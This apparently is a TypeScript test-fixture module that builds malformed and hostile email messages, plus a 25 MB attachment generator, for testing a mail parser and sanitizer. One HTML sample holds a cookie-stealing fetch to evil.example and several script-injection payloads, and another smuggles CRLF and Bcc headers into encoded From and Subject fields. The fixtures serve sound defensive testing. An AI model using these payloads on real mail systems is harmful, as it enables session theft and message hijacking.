/**
 * Malformed and hostile messages for bad-input tests. Each sample names what is wrong with it so a
 * test can assert the parser / sanitizer / capture pipeline copes (stores something sensible or
 * rejects it cleanly, never crashes, never lets markup or header injection through).
 */
import { base64Lines, concatBytes } from './seed-mime';

export type HostileName =
  | 'broken-boundary'
  | 'missing-headers'
  | 'duplicate-headers'
  | 'eight-bit-header-garbage'
  | 'unknown-charset'
  | 'script-and-tracking-html'
  | 'header-injection'
  | 'bare-lf-line-endings'
  | 'overlong-header-line';

export interface HostileSample {
  name: HostileName;
  /** What is wrong with it, for test names and failure messages. */
  description: string;
  raw: Uint8Array;
  /** The Message-ID it carries, when it carries exactly one. */
  messageId?: string;
}

const CRLF = '\r\n';
const lines = (...l: string[]) => l.join(CRLF);
const text = (s: string) => new TextEncoder().encode(s);

/** All hostile samples, fixed bytes (no seed needed: they are handcrafted). */
export function hostileMessages(): HostileSample[] {
  return [
    {
      name: 'broken-boundary',
      description: 'declares boundary "declared-boundary" but the parts use another one, and the closing delimiter is missing',
      messageId: '<broken-boundary@hostile.example>',
      raw: text(
        lines(
          'From: Broken Sender <broken@hostile.example>',
          'To: ava@greenleaf.example',
          'Subject: Broken multipart',
          'Date: Mon, 02 Nov 2026 08:00:00 +0000',
          'Message-ID: <broken-boundary@hostile.example>',
          'MIME-Version: 1.0',
          'Content-Type: multipart/mixed; boundary="declared-boundary"',
          '',
          '--other-boundary',
          'Content-Type: text/plain',
          '',
          'This part is delimited by a boundary nobody declared.',
          '--other-boundary',
          'Content-Type: application/pdf; name="x.pdf"',
          'Content-Transfer-Encoding: base64',
          '',
          'JVBERi0xLjQKJeLjz9MK',
          '',
        ),
      ),
    },
    {
      name: 'missing-headers',
      description: 'no From, Date, Message-ID or MIME-Version; only a Subject and a body',
      raw: text(lines('Subject: No sender, no date, no id', '', 'Who sent this?', '')),
    },
    {
      name: 'duplicate-headers',
      description: 'two From, two Subject, two Message-ID and two Date headers with different values',
      messageId: '<dup-first@hostile.example>',
      raw: text(
        lines(
          'From: First Sender <first@hostile.example>',
          'From: Second Sender <second@hostile.example>',
          'To: ava@greenleaf.example',
          'Subject: First subject',
          'Subject: Second subject',
          'Date: Mon, 02 Nov 2026 08:00:00 +0000',
          'Date: Tue, 03 Nov 2026 08:00:00 +0000',
          'Message-ID: <dup-first@hostile.example>',
          'Message-ID: <dup-second@hostile.example>',
          '',
          'Which one is real?',
          '',
        ),
      ),
    },
    {
      name: 'eight-bit-header-garbage',
      description: 'raw bytes 0x80-0xFF in Subject and the From display name that are not valid UTF-8',
      messageId: '<eight-bit@hostile.example>',
      raw: concatBytes([
        'From: ',
        Uint8Array.from([0xc3, 0x28, 0xa0, 0xa1, 0xff]),
        ' <garbage@hostile.example>\r\nTo: ava@greenleaf.example\r\nSubject: Price ',
        Uint8Array.from([0x80, 0x81, 0xfe, 0xe2, 0x28, 0xa1]),
        ' list\r\nDate: Mon, 02 Nov 2026 08:00:00 +0000\r\nMessage-ID: <eight-bit@hostile.example>\r\n\r\nBody.\r\n',
      ]),
    },
    {
      name: 'unknown-charset',
      description: 'text part labelled with a charset no decoder knows (x-unknown-klingon), bytes in it are 8-bit',
      messageId: '<unknown-charset@hostile.example>',
      raw: concatBytes([
        lines(
          'From: Unknown Charset <charset@hostile.example>',
          'To: ava@greenleaf.example',
          'Subject: =?x-unknown-klingon?Q?Qapla=E9?=',
          'Date: Mon, 02 Nov 2026 08:00:00 +0000',
          'Message-ID: <unknown-charset@hostile.example>',
          'MIME-Version: 1.0',
          'Content-Type: text/plain; charset="x-unknown-klingon"',
          'Content-Transfer-Encoding: 8bit',
          '',
          'Body with bytes: ',
        ),
        Uint8Array.from([0xe9, 0xfc, 0x9d]),
        CRLF,
      ]),
    },
    {
      name: 'script-and-tracking-html',
      description: 'HTML with <script>, inline event handlers, javascript: links, an iframe and a 1x1 tracking pixel',
      messageId: '<script-html@hostile.example>',
      raw: text(
        lines(
          'From: Marketing <news@hostile.example>',
          'To: ava@greenleaf.example',
          'Subject: <script>alert("subject")</script> Spring offer',
          'Date: Mon, 02 Nov 2026 08:00:00 +0000',
          'Message-ID: <script-html@hostile.example>',
          'MIME-Version: 1.0',
          'Content-Type: text/html; charset=utf-8',
          '',
          '<html><body onload="alert(1)">',
          '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
          '<p>Spring offer! <a href="javascript:alert(2)">Click</a></p>',
          '<img src="x" onerror="alert(3)">',
          '<iframe src="https://evil.example/frame"></iframe>',
          '<img src="https://track.hostile.example/pixel.gif?u=ava" width="1" height="1">',
          '</body></html>',
          '',
        ),
      ),
    },
    {
      name: 'header-injection',
      description: 'encoded-words whose decoded Subject and From name contain CRLF followed by a Bcc: header',
      messageId: '<injection@hostile.example>',
      raw: text(
        lines(
          `From: =?UTF-8?B?${Buffer.from('Eve\r\nBcc: victim@greenleaf.example').toString('base64')}?= <eve@hostile.example>`,
          'To: ava@greenleaf.example',
          `Subject: =?UTF-8?B?${Buffer.from('Invoice\r\nBcc: everyone@greenleaf.example\r\n\r\nInjected body').toString('base64')}?=`,
          'Date: Mon, 02 Nov 2026 08:00:00 +0000',
          'Message-ID: <injection@hostile.example>',
          '',
          'Reply to this and see where it goes.',
          '',
        ),
      ),
    },
    {
      name: 'bare-lf-line-endings',
      description: 'LF-only line endings throughout (RFC 5322 requires CRLF)',
      messageId: '<bare-lf@hostile.example>',
      raw: text(
        [
          'From: Unix Mailer <lf@hostile.example>',
          'To: ava@greenleaf.example',
          'Subject: Bare LF',
          'Date: Mon, 02 Nov 2026 08:00:00 +0000',
          'Message-ID: <bare-lf@hostile.example>',
          '',
          'Line one',
          'Line two',
          '',
        ].join('\n'),
      ),
    },
    {
      name: 'overlong-header-line',
      description: 'a 5,000-character unfolded Subject, beyond the 998-character line limit of RFC 5322 §2.1.1',
      messageId: '<overlong@hostile.example>',
      raw: text(
        lines(
          'From: Long Winded <long@hostile.example>',
          'To: ava@greenleaf.example',
          `Subject: ${'very-long-subject-'.repeat(295).slice(0, 5000)}`,
          'Date: Mon, 02 Nov 2026 08:00:00 +0000',
          'Message-ID: <overlong@hostile.example>',
          '',
          'Short body.',
          '',
        ),
      ),
    },
  ];
}

export interface HugeMessage {
  messageId: string;
  /** Exact total size of the message in bytes (for Content-Length and size limits). */
  size: number;
  /** The message in chunks of roughly 64 KB, produced lazily so 25 MB is never held at once. */
  chunks(): Generator<Uint8Array>;
}

const HUGE_DEFAULT = 25 * 1024 * 1024;
/** 57 raw bytes per 76-character base64 line. */
const RAW_PER_LINE = 57;
const LINES_PER_CHUNK = 1024;

/**
 * A message with one attachment of `attachmentBytes` (default 25 MB — Graph and Gmail refuse or
 * need upload sessions above their limits, so this is the size adapters must handle or reject).
 */
export function hugeAttachmentMessage(options: { attachmentBytes?: number; mailbox?: string } = {}): HugeMessage {
  const attachmentBytes = options.attachmentBytes ?? HUGE_DEFAULT;
  const mailbox = options.mailbox ?? 'ava@greenleaf.example';
  const messageId = `<huge-${attachmentBytes}@hostile.example>`;
  const head = text(
    lines(
      'From: Big Sender <big@hostile.example>',
      `To: ${mailbox}`,
      'Subject: Site survey scans (large attachment)',
      'Date: Mon, 02 Nov 2026 08:00:00 +0000',
      `Message-ID: ${messageId}`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="=_huge"',
      '',
      '--=_huge',
      'Content-Type: text/plain; charset=us-ascii',
      '',
      'Scans attached.',
      '--=_huge',
      'Content-Type: application/octet-stream; name="scans.bin"',
      'Content-Transfer-Encoding: base64',
      'Content-Disposition: attachment; filename="scans.bin"',
      '',
      '',
    ),
  );
  const tail = text(`${CRLF}--=_huge--${CRLF}`);
  const fullLines = Math.floor(attachmentBytes / RAW_PER_LINE);
  const rest = attachmentBytes % RAW_PER_LINE;
  const lineCount = fullLines + (rest ? 1 : 0);
  const encodedSize = fullLines * 76 + (rest ? Math.ceil(rest / 3) * 4 : 0) + Math.max(0, lineCount - 1) * 2;
  const size = head.length + encodedSize + tail.length;

  function* chunks(): Generator<Uint8Array> {
    yield head;
    // The pattern repeats per line, which keeps generation cheap; content does not matter here.
    const pattern = new Uint8Array(RAW_PER_LINE * LINES_PER_CHUNK);
    for (let i = 0; i < pattern.length; i++) pattern[i] = (i * 31 + 7) & 0xff;
    let remaining = attachmentBytes;
    let first = true;
    while (remaining > 0) {
      const n = Math.min(remaining, pattern.length);
      const encoded = base64Lines(pattern.subarray(0, n));
      yield text(first ? encoded : CRLF + encoded);
      first = false;
      remaining -= n;
    }
    yield tail;
  }

  return { messageId, size, chunks };
}
